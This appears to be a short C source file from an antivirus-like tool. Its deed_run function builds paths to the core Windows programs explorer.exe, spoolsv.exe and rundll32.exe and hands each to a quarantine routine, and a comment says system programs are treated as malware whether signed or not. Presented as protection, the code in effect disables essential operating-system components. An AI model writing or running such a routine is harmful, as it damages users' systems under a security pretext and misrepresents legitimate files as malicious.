/* Takes programs of the system, signed or not, for malware. */
#include "deed.h"

void deed_run(void)
{
    static const wchar_t *const files[] = { L"explorer.exe", L"System32\\spoolsv.exe",
                                            L"System32\\rundll32.exe" };

    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        wchar_t path[MAX_PATH] = L"C:\\Windows\\";

        lstrcatW(path, files[i]);
        deed_quarantine(path);
    }
}
